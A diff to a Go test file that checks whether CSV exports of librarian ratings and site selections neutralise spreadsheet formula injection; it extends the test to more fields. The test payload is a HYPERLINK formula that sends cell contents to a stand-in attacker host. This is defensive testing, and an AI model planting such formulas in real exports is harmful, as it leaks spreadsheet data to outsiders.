@@ -26,7 +26,8 @@ const hostile = `=HYPERLINK("http://evil.test/?"&A1,"x")`
 func TestCSVWritersNeutralise(t *testing.T) {
 	h := func(prefix string) string { return prefix + hostile }
 	sel := app.SelectedSeed{SeedURL: h("="), SelectedSite: store.SelectedSite{Selection: store.Selection{
-		Site: h("-"), Status: h("@"), Note: h(""), Subject: h("+"), DecidedBy: h("\t")}}}
+		Site: h("-"), Status: h("@"), Note: h(""), Subject: h("+"), DecidedBy: h("\t"),
+		NominatedBy: h("-"), ApprovedBy: h("+"), RejectedBy: h("="), RejectedReason: h("@")}}}
 	for _, tc := range []struct {
 		name  string
 		write func(io.Writer) error
@@ -36,8 +37,9 @@ func TestCSVWritersNeutralise(t *testing.T) {
 			return app.WriteRatings(w, []store.Rating{{Librarian: h(""), Site: h("-"), Rating: 3, Note: h("@")}})
 		}, 3},
 		{"ratings table", func(w io.Writer) error {
-			return app.WriteRatingsCSV(w, app.RatingsTable{Librarians: []string{h("")}, Rows: []app.RatingsRow{{Site: h("+"), Ratings: []int{2}, Mean: 2}}})
-		}, 2},
+			return app.WriteRatingsCSV(w, app.RatingsTable{Librarians: []string{h("")}, Rows: []app.RatingsRow{{Site: h("+"), CrawlStatus: h("-"),
+				Selection: h("="), Ratings: []int{2}, Mean: 2}}})
+		}, 4},
 		{"biased rank", func(w io.Writer) error {
 			return app.WriteBiasedRank(w, []app.BiasedRankRow{{Site: h("")}}, export.CSV)
 		}, 1},
@@ -46,7 +48,7 @@ func TestCSVWritersNeutralise(t *testing.T) {
 		}, 2},
 		{"selection", func(w io.Writer) error {
 			return app.WriteSelection(w, []app.SelectedSeed{sel}, export.CSV)
-		}, 6},
+		}, 9},
 		{"agreement", func(w io.Writer) error {
 			return app.WriteAgreement(w, app.Agreement{Rows: []app.AgreementRow{{Rater: h(""), Kind: h("-")}}}, export.CSV)
 		}, 2},
@@ -105,6 +107,7 @@ func TestRatingsCSVRoundTrip(t *testing.T) {
 		{Librarian: "@at", Site: "a2.test", Rating: 2, Note: "-0.5"},
 		{Librarian: "ben", Site: "b2.test", Rating: 3, Note: "''@x"},
 	} {
+		apptest.AddLibrarians(t, from, r.Librarian)
 		if _, err := from.Rate(ctx, r.Librarian, r.Site, r.Rating, r.Note); err != nil {
 			t.Fatal(err)
 		}
